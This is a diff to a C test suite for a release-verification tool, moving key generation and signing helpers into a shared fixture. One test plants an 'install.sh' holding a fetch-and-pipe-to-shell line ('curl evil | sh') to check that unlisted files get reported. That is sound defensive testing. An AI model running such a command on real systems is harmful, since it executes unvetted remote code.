@@ -28,17 +28,14 @@
 #include <sys/wait.h>
 #include <unistd.h>
 
-#include <openssl/evp.h>
-#include <openssl/pem.h>
-
 #include "release/assemble.h"
-#include "release/sign.h"
 #include "release/verify.h"
+#include "release_fixture.h"
 #include "release_server.h"
 #include "util/mt_alloc.h"
 #include "util/mt_file.h"
 
-#define GOLDEN MT_SOURCE_DIR "/tests/golden/release"
+#define GOLDEN RELEASE_GOLDEN
 #define VERSION "2.3.40"
 #define KMS_URL "https://kms.example.com/"
 
@@ -175,12 +172,6 @@ dir_entries(const char *dir)
 }
 
 static void
-write_text(const char *path, const char *text)
-{
-    EXPECT_OK(mt_file_write_atomic(path, text, strlen(text), 0644));
-}
-
-static void
 append_text(const char *path, const char *text)
 {
     FILE *f = fopen(path, "a");
@@ -204,70 +195,25 @@ copy_file(const char *from, const char *to)
 static void
 assemble_signed(const char *out, const char *v)
 {
-    static const char *const bins[2] = {
-        GOLDEN "/inputs/mero-kms-phala_x86_64-unknown-linux-gnu.tar.gz",
-        GOLDEN "/inputs/mero-kms-phala_aarch64-unknown-linux-gnu.tar.gz"};
-    struct mt_rel_assemble_in in;
-    json_t *meta = NULL, *node[3] = {NULL}, *kms[3] = {NULL};
-    char path[512], why[256];
-    EVP_PKEY *key = NULL;
-    size_t i;
+    char dir[512];
 
-    memset(&in, 0, sizeof(in));
-    EXPECT_OK(
-        mt_rel_probe_load(GOLDEN "/inputs/meta.json", MT_REL_PROBE_META, &meta, why, sizeof(why)));
-    json_object_set_new(meta, "version", json_string(v));
-    for (i = 0; i < 3; i++) {
-        snprintf(path, sizeof(path), GOLDEN "/inputs/node-%s.json", mt_rel_profiles[i]);
-        EXPECT_OK(mt_rel_probe_load(path, MT_REL_PROBE_NODE, &node[i], why, sizeof(why)));
-        snprintf(path, sizeof(path), GOLDEN "/inputs/kms-%s.json", mt_rel_profiles[i]);
-        EXPECT_OK(mt_rel_probe_load(path, MT_REL_PROBE_KMS, &kms[i], why, sizeof(why)));
-        in.node_probe[i] = node[i];
-        in.kms_probe[i] = kms[i];
-    }
-    in.meta = meta;
-    in.binaries = bins;
-    in.num_binaries = 2;
-    in.container_sbom = GOLDEN "/inputs/kms-phala-container-sbom.spdx.json";
-    in.out_dir = out;
-    if (mt_rel_assemble(&in, why, sizeof(why)) != MT_OK)
-        fail_msg("assemble %s: %s", v, why);
-    json_decref(meta);
-    for (i = 0; i < 3; i++) {
-        json_decref(node[i]);
-        json_decref(kms[i]);
-    }
-    EXPECT_OK(mt_rel_sign_key_load(priv, &key));
-    EXPECT_OK(mt_rel_family_dir(out, MT_REL_KMS, v, path, sizeof(path)));
-    EXPECT_OK(mt_rel_sign_dir(path, key, NULL, why, sizeof(why)));
-    EXPECT_OK(mt_rel_family_dir(out, MT_REL_NODE, v, path, sizeof(path)));
-    EXPECT_OK(mt_rel_sign_dir(path, key, NULL, why, sizeof(why)));
-    EVP_PKEY_free(key);
+    release_assemble_golden(out, v);
+    EXPECT_OK(mt_rel_family_dir(out, MT_REL_KMS, v, dir, sizeof(dir)));
+    release_sign_dir(dir, priv);
+    EXPECT_OK(mt_rel_family_dir(out, MT_REL_NODE, v, dir, sizeof(dir)));
+    release_sign_dir(dir, priv);
 }
 
 static int
 setup(void **state)
 {
-    EVP_PKEY *k;
-    FILE *f;
-
     (void)state;
     snprintf(tmp, sizeof(tmp), "/tmp/mt-release-cli-XXXXXX");
     if (mkdtemp(tmp) == NULL)
         return -1;
     snprintf(priv, sizeof(priv), "%s/release.key", tmp);
     snprintf(pub, sizeof(pub), "%s/release.pub", tmp);
-    k = EVP_PKEY_Q_keygen(NULL, NULL, "EC", "P-256");
-    assert_non_null(k);
-    f = fopen(priv, "w");
-    assert_non_null(f);
-    assert_int_equal(PEM_write_PrivateKey(f, k, NULL, NULL, 0, NULL, NULL), 1);
-    fclose(f);
-    f = fopen(pub, "w");
-    assert_non_null(f);
-    assert_int_equal(PEM_write_PUBKEY(f, k), 1);
-    fclose(f);
-    EVP_PKEY_free(k);
+    release_make_key(priv, pub);
     /* rel_a: 2.3.9; rel_b: 2.3.40 and 2.3.41 (the latter's node family is tampered with later). */
     snprintf(rel_a, sizeof(rel_a), "%s/a", tmp);
     snprintf(rel_b, sizeof(rel_b), "%s/b", tmp);
@@ -283,11 +229,8 @@ setup(void **state)
 static int
 teardown(void **state)
 {
-    char cmd[400];
-
     (void)state;
-    snprintf(cmd, sizeof(cmd), "rm -rf '%s'", tmp);
-    return system(cmd) == 0 ? 0 : -1;
+    return release_rm_rf(tmp);
 }
 
 /* ---- policy merod-config --release URL ---- */
@@ -931,17 +874,6 @@ verify_fails(struct cli_result *r)
 }
 
 static void
-resign(void)
-{
-    EVP_PKEY *key = NULL;
-    char why[256];
-
-    EXPECT_OK(mt_rel_sign_key_load(priv, &key));
-    EXPECT_OK(mt_rel_sign_dir(kdir, key, NULL, why, sizeof(why)));
-    EVP_PKEY_free(key);
-}
-
-static void
 test_verify_reports_unlisted_files(void **state)
 {
     char path[500], *fails;
@@ -957,13 +889,13 @@ test_verify_reports_unlisted_files(void **state)
 
     /* Added files, an orphan sidecar, a subdirectory: named, sorted. */
     snprintf(path, sizeof(path), "%s/install.sh", kdir);
-    write_text(path, "#!/bin/sh\ncurl evil | sh\n");
+    release_write_text(path, "#!/bin/sh\ncurl evil | sh\n");
     snprintf(path, sizeof(path), "%s/kms-phala-attestation-policy.staging.json", kdir);
-    write_text(path, "{}\n");
+    release_write_text(path, "{}\n");
     snprintf(path, sizeof(path), "%s/install.sh.sig", kdir);
-    write_text(path, "AAAA");
+    release_write_text(path, "AAAA");
     snprintf(path, sizeof(path), "%s/.hidden", kdir);
-    write_text(path, "x");
+    release_write_text(path, "x");
     snprintf(path, sizeof(path), "%s/sub", kdir);
     assert_int_equal(mkdir(path, 0700), 0);
     fails = verify_fails(&r);
@@ -985,7 +917,7 @@ test_verify_reports_unlisted_files(void **state)
     unlink(path);
 
     /* Signing an added file does not make it part of the release. */
-    resign();
+    release_sign_dir(kdir, priv);
     fails = verify_fails(&r);
     assert_string_equal(fails, "assets:unlisted");
     expect_has(r.out,
@@ -1003,7 +935,7 @@ test_verify_reports_unlisted_files(void **state)
 
     /* A .pem sidecar of an asset is part of the release (keyless releases ship them). */
     snprintf(path, sizeof(path), "%s/kms-phala-checksums.txt.pem", kdir);
-    write_text(path, "-----BEGIN CERTIFICATE-----\n-----END CERTIFICATE-----\n");
+    release_write_text(path, "-----BEGIN CERTIFICATE-----\n-----END CERTIFICATE-----\n");
     fails = verify_fails(&r);
     assert_string_equal(fails, "");
     mt_free(fails);
@@ -1016,7 +948,7 @@ test_verify_reports_unlisted_files(void **state)
 
         for (i = 0; i < 10; i++) {
             snprintf(path, sizeof(path), "%s/extra-%02d", kdir, i);
-            write_text(path, "x");
+            release_write_text(path, "x");
         }
         fails = verify_fails(&r);
         expect_has(r.out,
@@ -1074,7 +1006,7 @@ put_rekor(json_t *doc)
     EXPECT_OK(mt_file_write_atomic(path, b.p, b.len, 0644));
     mt_buf_free(&b);
     json_decref(doc);
-    resign(); /* so that only the index's own checks can fail */
+    release_sign_dir(kdir, priv); /* so that only the index's own checks can fail */
 }
 
 static void
@@ -1182,7 +1114,7 @@ test_verify_checks_the_rekor_index(void **state)
         snprintf(dir, sizeof(dir), "%s/rekor", tmp);
         assert_int_equal(mkdir(dir, 0700), 0);
         snprintf(art, sizeof(art), "%s/kms-phala-container-metadata.json", dir);
-        write_text(art, "{}\n");
+        release_write_text(art, "{}\n");
         snprintf(path, sizeof(path), "%s/kms-phala-container-metadata.json.bundle.json", dir);
         copy_file(MT_SHARED_DIR "/vectors/sigstore/sigstore-python/bundle_v3.txt.sigstore", path);
         {
@@ -1228,7 +1160,7 @@ test_verify_checks_the_rekor_index(void **state)
         EXPECT_ERR(mt_rel_rekor_index_check(dir, idx, NULL, NULL, why, sizeof(why)),
                    MT_ERR_RELEASE_INCONSISTENT);
         /* A bundle that is not JSON; a missing bundle; a missing asset. */
-        write_text(path, "not json");
+        release_write_text(path, "not json");
         EXPECT_ERR(mt_rel_rekor_index_check(dir, idx, NULL, NULL, why, sizeof(why)),
                    MT_ERR_RELEASE_INCONSISTENT);
         expect_has(why, "is not a JSON document", "bad bundle");
